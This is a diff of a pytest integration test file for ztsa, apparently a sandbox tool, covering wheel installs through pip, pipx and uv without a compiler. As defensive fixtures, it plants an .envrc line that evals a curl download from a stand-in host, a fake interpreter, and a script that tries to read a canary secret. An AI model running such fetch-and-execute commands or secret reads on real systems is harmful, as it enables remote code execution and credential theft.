@@ -3,28 +3,38 @@
 The launcher starts the interpreter its installer wrote into the first line of
 `ztsa-interpreter` beside its real file, and nothing else: real installs of a wheel
 built here (`python -m build`, as a release is) into a venv, the user site, pipx and uv
-tool, with executables planted wherever an older launcher looked."""
+tool, with executables planted wherever an older launcher looked. pipx and uv install
+the wheel as root and as an ordinary user, binary only, in a mount namespace where no
+compiler runs and no Python header exists (where an sdist stops with one line)."""
 
 from __future__ import annotations
 
 import importlib.util
 import json
 import os
+import pwd
 import re
 import shlex
 import shutil
 import subprocess
 import sys
+import tempfile
+from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
+from typing import TYPE_CHECKING
 
 import pytest
 
 from ztsa import __version__
 from ztsa._boot import INTERPRETER_FILE
 
+if TYPE_CHECKING:  # the wheel built once for the session (integration/conftest.py)
+    from conftest import Built
+
+BUILD_TIMEOUT = 900  # an sdist's build, as the wheel's
+
 REPO = Path(__file__).resolve().parent.parent
-BUILD_TIMEOUT = 900
 
 EVIL = "open({marker!r}, 'w').write('ran')\n"
 
@@ -139,29 +149,6 @@ def test_in_a_virtual_environment_the_command_imports_its_own_ztsa(ztsa_bin, tmp
 
 # --- the interpreter: the one the installer recorded, beside the launcher's real file ---
 
-# Run by `python -m build` in place of its own start: it says which temporary
-# directories it makes, among them the isolated build environment whose interpreter an
-# older launcher named.
-BUILD = """\
-import runpy, sys, tempfile
-made = tempfile.mkdtemp
-def mkdtemp(*args, **kwargs):
-    path = made(*args, **kwargs)
-    sys.stderr.write("ztsa-test made " + path + "\\n")
-    return path
-tempfile.mkdtemp = mkdtemp
-sys.argv[0] = "build"
-runpy.run_module("build", run_name="__main__", alter_sys=True)
-"""
-
-
-@dataclass(frozen=True)
-class Built:
-    wheel: Path
-    build_paths: list[str]  # the build machine's: the source tree, the temporary files
-    build_pythons: list[Path]  # the build environment's interpreter, by each name
-
-
 @dataclass(frozen=True)
 class Venv:
     root: Path
@@ -178,31 +165,6 @@ def _run(argv, **kwargs) -> subprocess.CompletedProcess[str]:
 def _base_python() -> str:
     """The interpreter this test's environment was made from."""
     return getattr(sys, "_base_executable", "") or sys.executable
-
-
-@pytest.fixture(scope="session")
-def built(tmp_path_factory) -> Built:
-    """A wheel of this checkout, built once as a release is: `python -m build --wheel`
-    (its isolated environment, under a TMPDIR of its own), from a copy of the tree
-    whose path is this build's own; `pip wheel` where `build` is not installed."""
-    root = tmp_path_factory.mktemp("wheel-build")
-    src, tmp, dist = root / "source-tree", root / "tmp", root / "dist"
-    shutil.copytree(REPO, src, ignore=shutil.ignore_patterns(
-        ".git", "build", "dist", "*.so", "*.egg-info", "__pycache__", ".*_cache",
-        ".hypothesis", ".venv"))
-    tmp.mkdir()
-    env = {**os.environ, "TMPDIR": str(tmp)}
-    if importlib.util.find_spec("build") is not None:
-        argv = [sys.executable, "-c", BUILD, "--wheel", "--outdir", dist, src]
-    else:
-        argv = [sys.executable, "-m", "pip", "wheel", "--no-deps", "-w", dist, src]
-    proc = _run(argv, env=env, cwd=root, timeout=BUILD_TIMEOUT)
-    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
-    made = re.findall(r"^ztsa-test made (.*)$", proc.stderr, re.MULTILINE)
-    envs = [Path(p) for p in made if os.path.basename(p).startswith("build-env-")]
-    wheel = next(dist.glob("ztsa-*.whl"))
-    return Built(wheel, [str(src), str(tmp)],
-                 [e / "bin" / name for e in envs for name in ("python", "python3")])
 
 
 def _venv(path: Path, wheel: Path) -> Venv:
@@ -246,6 +208,28 @@ def test_the_wheel_records_no_interpreter(built):
     assert set(scripts) == {"ztsa", INTERPRETER_FILE}
     assert scripts[INTERPRETER_FILE].startswith("#!python\n")
     assert scripts["ztsa"].startswith("#!/bin/sh\n")
+
+
+def test_the_wheel_carries_ztsa_ns_beside_the_launcher(built, installed):
+    """ztsa-ns, the child's set-up as an executable: a data file of the wheel's `bin`
+    (the scripts directory of every install scheme), an executable ELF; installed
+    beside the launcher and listed in the install's RECORD, and what a run execs."""
+    import zipfile
+
+    with zipfile.ZipFile(built.wheel) as whl:
+        ns = [i for i in whl.infolist() if i.filename.endswith(".data/data/bin/ztsa-ns")]
+        assert len(ns) == 1, whl.namelist()
+        assert whl.read(ns[0]).startswith(b"\x7fELF")
+        assert (ns[0].external_attr >> 16) & 0o111
+    beside = installed.root / "bin" / "ztsa-ns"
+    assert beside.is_file() and os.access(beside, os.X_OK)
+    info = next(installed.site_dir.glob("ztsa-*.dist-info"))
+    listed = [installed.site_dir / line.rsplit(",", 2)[0]
+              for line in (info / "RECORD").read_text().splitlines() if line]
+    assert any(p.name == "ztsa-ns" and p.resolve() == beside.resolve() for p in listed)
+    proc = _run([installed.root / "bin" / "ztsa", "doctor"], cwd="/")
+    assert proc.returncode == 0, proc.stderr
+    assert f"the set-up (namespaces, helper): ztsa-ns, {beside}" in proc.stdout
 
 
 def test_a_link_to_the_launcher_starts_its_installation_and_nothing_planted(
@@ -354,11 +338,11 @@ def test_the_launcher_reads_each_form_an_installer_writes(ztsa_bin, tmp_path, fo
     assert argv == [str(target), "-I", "-S", "-c", boot, str(d / "ztsa"), "--version", "a b"]
 
 
-def test_installed_files_name_no_path_of_the_build(installed, built):
-    """No file the wheel installs (its RECORD) names the source tree it was built from
-    or the build's temporary files, its isolated environment among them."""
-    info = next(installed.site_dir.glob("ztsa-*.dist-info"))
-    files = [installed.site_dir / line.rsplit(",", 2)[0]
+def _assert_names_no_build_path(site_dir: Path, built: Built) -> None:
+    """No file of ztsa's installation in SITE_DIR (its RECORD) names the source tree it
+    was built from or the build's temporary files, its isolated environment among them."""
+    info = next(site_dir.glob("ztsa-*.dist-info"))
+    files = [site_dir / line.rsplit(",", 2)[0]
              for line in (info / "RECORD").read_text().splitlines() if line]
     assert any(f.name == INTERPRETER_FILE for f in files)
     assert any(f.suffix == ".so" for f in files)
@@ -367,6 +351,12 @@ def test_installed_files_name_no_path_of_the_build(installed, built):
         if f.is_file():
             data = f.read_bytes()
             assert not [n for n in needles if n in data], f
+
+
+def test_installed_files_name_no_path_of_the_build(installed, built):
+    """pip's install; pipx's and uv's are checked where they are made
+    (test_pipx_and_uv_tool_installs_run, test_an_ordinary_user_installs_with_pipx_and_uv)."""
+    _assert_names_no_build_path(installed.site_dir, built)
 
 
 def test_a_user_install_starts_the_interpreter_that_installed_it(built, tmp_path):
@@ -397,6 +387,125 @@ def test_a_user_install_starts_the_interpreter_that_installed_it(built, tmp_path
     assert not marker.exists()
 
 
+# --- pipx and uv tool installs: as root and as an ordinary user, without a compiler ---
+
+# the escape suite's unprivileged user (integration/escapes/conftest.py), one a
+# pytest-xdist worker: what the kernel counts by user is then the one worker's
+_WORKER = os.environ.get("PYTEST_XDIST_WORKER", "gw0")
+TEST_USER = "ztsa-escape" + ("" if _WORKER == "gw0" else f"-{_WORKER}")
+# What pip, pipx and uv need to reach the package index from where the tests run (a
+# proxy, the certificate authority of one that intercepts TLS, another index): the user's
+# commands start from an empty environment and get these, by name, where they are set.
+REGISTRY_ENV = ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "NO_PROXY",
+                "no_proxy", "ALL_PROXY", "all_proxy", "SSL_CERT_FILE", "SSL_CERT_DIR",
+                "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "PIP_CERT", "PIP_INDEX_URL",
+                "PIP_EXTRA_INDEX_URL", "PIP_TRUSTED_HOST", "PIP_DEFAULT_TIMEOUT",
+                "UV_DEFAULT_INDEX", "UV_INDEX", "UV_INDEX_URL", "UV_EXTRA_INDEX_URL",
+                "UV_NATIVE_TLS", "UV_HTTP_TIMEOUT")
+# A C compiler's name: cc, gcc, c99, clang-16, x86_64-linux-gnu-gcc-12, musl-gcc, ...
+COMPILER = re.compile(r"(?:[\w.+]+-)*(?:cc|gcc|c89|c99|clang|tcc)(?:-[\d.]+)?")
+# Run in the namespace before each command: no compiler compiles, no Python.h is there.
+PROBE = r"""
+printf 'int main(void) { return 0; }\n' >"$ZTSA_PROBE_DIR/probe.c"
+for c in cc gcc c99 clang "$ZTSA_PROBE_CC"; do
+  if "$c" -o "$ZTSA_PROBE_DIR/probe" "$ZTSA_PROBE_DIR/probe.c" 2>/dev/null; then
+    echo "ztsa-test: the compiler $c still compiles" >&2; exit 97
+  fi
+done
+for d in $ZTSA_PROBE_INCLUDE; do
+  if [ -e "$d/Python.h" ]; then echo "ztsa-test: $d/Python.h is there" >&2; exit 98; fi
+done
+exec "$@"
+"""
+
+
+def _python_headers(pythons: list[str]) -> list[str]:
+    """The directories that hold PYTHONS' headers, and every other Python's of the
+    usual places."""
+    import glob
+
+    code = ("import sysconfig as s; print('\\n'.join(str(p) for p in (s.get_path('include'),"
+            " s.get_path('platinclude'), s.get_config_var('INCLUDEPY')) if p))")
+    dirs = [d for py in pythons for d in _run([py, "-I", "-c", code]).stdout.split()]
+    dirs += [*glob.glob("/usr/include/python3*"), *glob.glob("/usr/include/*/python3*"),
+             *glob.glob("/usr/local/include/python3*")]
+    return [d for d in dict.fromkeys(os.path.realpath(d) for d in dirs) if os.path.isdir(d)]
+
+
+@dataclass(frozen=True)
+class NoCompiler:
+    """How to run a command, as root or as TEST_USER, in a mount namespace of its own
+    where no C compiler runs and no Python header exists: an empty file bound over each
+    compiler of PATH (and the usual directories), gcc's own programs (cc1) and the
+    headers of every Python hidden under empty file systems. Each command first proves
+    it: compiling a C file fails, and no Python.h is where the interpreters look."""
+    hide: str  # shell commands, run as root in the new namespace
+    probe_env: dict[str, str]
+    unshare: str
+    runuser: str
+    scratch: Path  # readable by TEST_USER: the wheel, the homes, the workspaces
+
+    def run(self, argv, env: dict[str, str], user: bool = False, **kwargs
+            ) -> subprocess.CompletedProcess[str]:
+        probe_dir = Path(tempfile.mkdtemp(prefix="probe-", dir=self.scratch))
+        os.chmod(probe_dir, 0o777)
+        env = {**env, **self.probe_env, "ZTSA_PROBE_DIR": str(probe_dir)}
+        inner = ["sh", "-c", PROBE, "sh", *[str(a) for a in argv]]
+        if user:  # nothing of root's environment: only ENV
+            inner = [self.runuser, "-u", TEST_USER, "--", "env", "-i",
+                     *[f"{k}={v}" for k, v in env.items()], *inner]
+        kwargs.setdefault("timeout", 600)
+        return _run([self.unshare, "--mount", "--propagation", "private", "--",
+                     "sh", "-c", self.hide + '\nexec "$@"', "sh", *inner],
+                    env=env, **kwargs)
+
+
+@pytest.fixture(scope="session")
+def no_compiler(tmp_path_factory) -> Iterator[NoCompiler]:
+    if os.geteuid() != 0:
+        pytest.skip("hiding the compiler takes a mount namespace made as root")
+    path = os.pathsep.join([os.environ.get("PATH", ""), "/usr/sbin", "/sbin", "/usr/bin"])
+    found = {t: shutil.which(t, path=path) for t in ("unshare", "runuser", "mount", "useradd")}
+    if None in found.values():
+        pytest.fail(f"{found} (apt-get install util-linux mount passwd)")
+    scratch = Path(tempfile.mkdtemp(prefix="ztsa-tool-installs-"))
+    os.chmod(scratch, 0o755)
+    empty_file = scratch / "not-a-compiler"
+    empty_file.write_text("")
+    empty_file.chmod(0o644)
+    path = [*os.environ.get("PATH", "").split(":"), "/usr/local/sbin", "/usr/local/bin",
+            "/usr/sbin", "/usr/bin", "/sbin", "/bin"]
+    compilers = sorted({os.path.realpath(os.path.join(d, n))
+                        for d in dict.fromkeys(path) if d and os.path.isdir(d)
+                        for n in os.listdir(d) if COMPILER.fullmatch(n)
+                        and os.path.isfile(os.path.join(d, n))})
+    pythons = list(dict.fromkeys([_base_python(), sys.executable, "/usr/bin/python3"]))
+    pythons = [p for p in pythons if os.access(p, os.X_OK)]
+    headers = _python_headers(pythons)
+    gcc_dirs = [d for d in ("/usr/lib/gcc", "/usr/libexec/gcc", "/usr/local/libexec/gcc")
+                if os.path.isdir(d)]
+    mount = shlex.quote(str(found["mount"]))
+    hide = "set -e\n" + "".join(
+        [f"{mount} --bind {shlex.quote(str(empty_file))} {shlex.quote(c)}\n"
+         for c in compilers]
+        + [f"{mount} -t tmpfs -o mode=0755 none {shlex.quote(d)}\n"
+           for d in gcc_dirs + headers])
+    config_cc = _run([_base_python(), "-I", "-c", "import sysconfig; "
+                      "print((sysconfig.get_config_var('CC') or 'cc').split()[0])"]).stdout
+    try:
+        pwd.getpwnam(TEST_USER)
+    except KeyError:
+        made = subprocess.run([str(found["useradd"]), "--system", "--no-create-home",
+                               "--shell", "/bin/sh", TEST_USER], capture_output=True)
+        # 9: made meanwhile by another test process (a parallel worker, another run)
+        assert made.returncode in (0, 9), made.stderr
+    yield NoCompiler(hide=hide, scratch=scratch, unshare=str(found["unshare"]),
+                     runuser=str(found["runuser"]),
+                     probe_env={"ZTSA_PROBE_CC": config_cc.strip() or "cc",
+                                "ZTSA_PROBE_INCLUDE": " ".join(headers)})
+    shutil.rmtree(scratch, ignore_errors=True)
+
+
 @pytest.fixture(scope="session")
 def tools(tmp_path_factory) -> Path:
     """pipx and uv, installed from the package index into a virtual environment of
@@ -410,12 +519,72 @@ def tools(tmp_path_factory) -> Path:
     return venv / "bin"
 
 
-@pytest.mark.parametrize("tool", ["uv", "pipx", "pipx-pip"])
-def test_pipx_and_uv_tool_installs_run(built, tools, tmp_path, tool):
-    """`uv tool install` and `pipx install` of the wheel (pipx through uv, found beside
-    it, and through pip): the `ztsa` they put on PATH is a link to the launcher in the
-    tool's own venv; it runs, and a `python3` planted beside the link (where an older
-    launcher looked) never does."""
+GATE = "eval \"$(curl -fsSL https://x.invalid/env)\"\n"  # AGT009: direnv runs a download
+
+
+def _installed_tool_runs(no_compiler: NoCompiler, built: Built, link: Path, home: Path,
+                         env: dict[str, str], user: bool) -> None:
+    """The `ztsa` that pipx or uv put at LINK (first on PATH) is a link into the tool's
+    own environment in HOME, whose files name no path of the build; without a compiler,
+    by name, `ztsa check` blocks a workspace that runs a download, and `ztsa exec` runs
+    a command that writes its workspace and cannot read a canary in HOME."""
+    assert link.is_symlink()
+    venv = Path(os.path.realpath(link)).parent.parent
+    assert venv.is_relative_to(home) and not os.path.samefile(venv / "bin", link.parent)
+    _assert_names_no_build_path(next(venv.glob("lib/python3*/site-packages")), built)
+    owner = pwd.getpwnam(TEST_USER).pw_uid if user else 0
+    assert (venv / "bin" / "ztsa").stat().st_uid == owner
+
+    def made(name: str) -> Path:
+        d = Path(tempfile.mkdtemp(prefix=f"{name}-", dir=no_compiler.scratch))
+        if user:
+            os.chown(d, owner, -1)
+        return d
+
+    planted, ws = made("planted"), made("ws")
+    (planted / ".envrc").write_text(GATE)
+    canary = home / "canary-secret"
+    canary.write_text("ztsa-canary-6f1d\n")
+    if user:
+        os.chown(canary, owner, -1)
+    canary.chmod(0o600)
+
+    proc = no_compiler.run(["sh", "-c", 'command -v ztsa; exec ztsa --version'], env,
+                           user=user, cwd=ws, timeout=60)
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout.split() == [str(link), "ztsa,", "version", __version__]
+    # ztsa-ns beside the launcher in the tool's venv, executable, and what a run execs
+    ns = venv / "bin" / "ztsa-ns"
+    assert ns.is_file() and os.access(ns, os.X_OK), ns
+    proc = no_compiler.run(["ztsa", "doctor"], env, user=user, cwd=ws, timeout=60)
+    assert f"ztsa-ns, {ns}" in proc.stdout, proc.stdout + proc.stderr
+    proc = no_compiler.run(["ztsa", "check", "--profile", "untrusted", "--format", "json",
+                            planted], env, user=user, cwd=ws, timeout=120)
+    assert proc.returncode == 3, proc.stdout[-2000:] + proc.stderr[-2000:]
+    failed = {r["id"] for r in json.loads(proc.stdout)["results"]
+              if r["status"] == "fail"}
+    assert "AGT009" in failed, failed
+    # the canary is the user's to read, outside the sandbox
+    proc = no_compiler.run(["cat", canary], env, user=user, cwd=ws, timeout=60)
+    assert proc.stdout == "ztsa-canary-6f1d\n", proc.stderr
+    script = (f"echo ran >marker; cat {shlex.quote(str(canary))} >leaked 2>/dev/null; "
+              "echo $? >read-status")
+    proc = no_compiler.run(["ztsa", "exec", "--profile", "repo", "--workspace", ws, "--",
+                            "sh", "-c", script], env, user=user, cwd=ws, timeout=120)
+    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]
+    assert (ws / "marker").read_text() == "ran\n"
+    assert (ws / "read-status").read_text().strip() not in ("", "0")
+    assert "canary" not in (ws / "leaked").read_text()
+
+
+@pytest.mark.parametrize("tool", ["uv", "pipx"])
+def test_pipx_and_uv_tool_installs_run(built, tools, no_compiler, tmp_path, tool):
+    """As root, without a compiler or Python headers, binary only: `uv tool install`
+    and `pipx install` of the wheel (pipx through uv, found beside it; the ordinary
+    user's pipx goes through pip: one install per tool and user keeps the time short).
+    The `ztsa` they put on PATH is a link to the launcher in the tool's own venv; it
+    runs, checks and confines, and a `python3` planted beside the link (where an older
+    launcher looked) never runs."""
     home = tmp_path / "home"
     bin_dir = home / "bin"
     env = {**os.environ, "HOME": str(home), "PIPX_HOME": str(home / "pipx"),
@@ -424,18 +593,116 @@ def test_pipx_and_uv_tool_installs_run(built, tools, tmp_path, tool):
            "UV_CACHE_DIR": str(home / "uv-cache"), "UV_PYTHON_DOWNLOADS": "never",
            "PATH": f"{bin_dir}:{tools}:{os.environ.get('PATH', '')}"}
     env.pop("VIRTUAL_ENV", None)
-    if tool == "pipx-pip":
-        env["PIPX_DEFAULT_BACKEND"] = "pip"
-    argv = ([tools / "uv", "tool", "install", "--python", _base_python(), built.wheel]
-            if tool == "uv" else
-            [tools / "pipx", "install", "--python", _base_python(), built.wheel])
-    proc = _run(argv, env=env, timeout=600)
+    argv = ([tools / "uv", "tool", "install", "--no-build", "--python", _base_python(),
+             built.wheel] if tool == "uv" else
+            [tools / "pipx", "install", "--python", _base_python(),
+             "--pip-args=--only-binary=:all:", built.wheel])
+    proc = no_compiler.run(argv, env)
     assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]
     link = bin_dir / "ztsa"
-    assert link.is_symlink()
-    assert not os.path.samefile(os.path.dirname(os.path.realpath(link)), bin_dir)
+    # pipx made its environment through uv, as uv tool does
+    assert "\nuv = " in (Path(os.path.realpath(link)).parents[1] / "pyvenv.cfg").read_text()
     marker = tmp_path / "planted-interpreter-ran"
     for name in ("python3", "python"):
         _plant_interpreter(bin_dir / name, marker)
-    _version(["ztsa"], env=env, cwd=tmp_path)
+    _installed_tool_runs(no_compiler, built, link, home, env, user=False)
     assert not marker.exists(), marker.read_text()
+
+
+@pytest.fixture(scope="session")
+def user_tools(no_compiler, tools) -> Path:
+    """pipx and uv for TEST_USER, installed by it from the package index (binary only,
+    with a copy of root's uv) into a virtual environment of its own, where it can reach
+    them: the tests' own environment may lie in a directory it cannot enter."""
+    top = no_compiler.scratch / "user-tools"
+    top.mkdir()
+    shutil.copy(tools / "uv", top / "bootstrap-uv")
+    uid = pwd.getpwnam(TEST_USER).pw_uid
+    os.chown(top, uid, -1)
+    env = _user_env(top / "bootstrap-home", top, top / "uv-cache")
+    venv = top / "venv"
+    proc = no_compiler.run(["sh", "-c", 'mkdir -m 700 "$HOME" && "$0" venv -q --python '
+                            '/usr/bin/python3 "$1" && "$0" pip install -q --python '
+                            '"$1/bin/python" --only-binary :all: pipx uv',
+                            top / "bootstrap-uv", venv], env, user=True)
+    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]
+    return venv / "bin"
+
+
+def _user_env(home: Path, tools_dir: Path, uv_cache: Path) -> dict[str, str]:
+    """TEST_USER's whole environment: its home, PATH with the tools' links first, and
+    what reaches the package index."""
+    return {"HOME": str(home), "USER": TEST_USER, "LOGNAME": TEST_USER, "LANG": "C.UTF-8",
+            "PATH": f"{home}/.local/bin:{tools_dir}:/usr/local/bin:/usr/bin:/bin",
+            "UV_CACHE_DIR": str(uv_cache), "UV_PYTHON_DOWNLOADS": "never",
+            **{k: os.environ[k] for k in REGISTRY_ENV if k in os.environ}}
+
+
+@pytest.mark.parametrize("tool", ["uv", "pipx"])
+def test_an_ordinary_user_installs_with_pipx_and_uv(built, no_compiler, user_tools, tool):
+    """As an ordinary user, from an empty environment given only its home, PATH and
+    what reaches the package index, without a compiler or Python headers, binary only:
+    `uv tool install WHEEL` and `pipx install WHEEL` (through pip) into the user's own
+    home. The `ztsa` on its PATH runs, checks and confines."""
+    wheels = Path(tempfile.mkdtemp(prefix="wheel-", dir=no_compiler.scratch))
+    os.chmod(wheels, 0o755)
+    wheel = Path(shutil.copy(built.wheel, wheels))
+    wheel.chmod(0o644)
+    home = no_compiler.scratch / f"home-{tool}"
+    home.mkdir(mode=0o700)
+    os.chown(home, pwd.getpwnam(TEST_USER).pw_uid, pwd.getpwnam(TEST_USER).pw_gid)
+    env = _user_env(home, user_tools, user_tools.parent.parent / "uv-cache")
+    if tool == "uv":
+        argv = ["uv", "tool", "install", "--no-build", "--python", "/usr/bin/python3", wheel]
+    else:
+        env["PIPX_DEFAULT_BACKEND"] = "pip"
+        argv = ["pipx", "install", "--python", "/usr/bin/python3",
+                "--pip-args=--only-binary=:all:", wheel]
+    proc = no_compiler.run(argv, env, user=True, cwd=home)
+    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]
+    link = home / ".local" / "bin" / "ztsa"
+    # pipx made its environment through pip (venv), uv tool through uv
+    cfg = (Path(os.path.realpath(link)).parents[1] / "pyvenv.cfg").read_text()
+    assert ("\nuv = " in cfg) == (tool == "uv"), cfg
+    _installed_tool_runs(no_compiler, built, link, home, env, user=True)
+
+
+@pytest.fixture(scope="session")
+def sdist(tmp_path_factory) -> Path:
+    """An sdist of this checkout, as `python -m build --sdist` makes one."""
+    if importlib.util.find_spec("build") is None:
+        pytest.skip("`build` is not installed")
+    root = tmp_path_factory.mktemp("sdist-build")
+    src = root / "source-tree"
+    shutil.copytree(REPO, src, ignore=shutil.ignore_patterns(
+        ".git", "build", "dist", "*.so", "*.egg-info", "__pycache__", ".*_cache",
+        ".hypothesis", ".venv"))
+    proc = _run([sys.executable, "-m", "build", "--sdist", "--outdir", root / "dist", src],
+                cwd=root, timeout=BUILD_TIMEOUT)
+    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
+    return next((root / "dist").glob("ztsa-*.tar.gz"))
+
+
+def test_an_sdist_install_without_a_compiler_names_the_packages(sdist, no_compiler, tmp_path):
+    """`pip install SDIST` where no compiler runs and no Python.h exists fails before
+    anything compiles, with one line that says what is missing and names the packages
+    that provide it; nothing is installed."""
+    target = tmp_path / "target"
+    env = {k: v for k, v in os.environ.items() if k not in ("CC", "VIRTUAL_ENV")}
+    proc = no_compiler.run([sys.executable, "-m", "pip", "install", "--no-deps",
+                            "--target", target, sdist], env)
+    out = proc.stdout + proc.stderr
+    assert proc.returncode != 0, out[-3000:]
+    lines = [line.strip() for line in out.splitlines()
+             if "ztsa: building the native helper needs" in line]
+    assert len(lines) == 1, out[-3000:]
+    assert "[1 lines of output]" in out, out[-3000:]  # pip's frame of the backend's output
+    assert lines[0].startswith("ztsa: building the native helper needs a C compiler and "
+                               "the Python headers (no C compiler: "), lines
+    assert "; no Python.h in " in lines[0]
+    for packages in ("apt-get install gcc python3-dev", "dnf install gcc python3-devel",
+                     "apk add build-base python3-dev"):
+        assert packages in lines[0]
+    # it stopped before the compiler: no compiler's error, nothing installed
+    assert "Python.h: No such file" not in out and "error: command" not in out, out[-3000:]
+    assert not list(target.glob("ztsa*"))
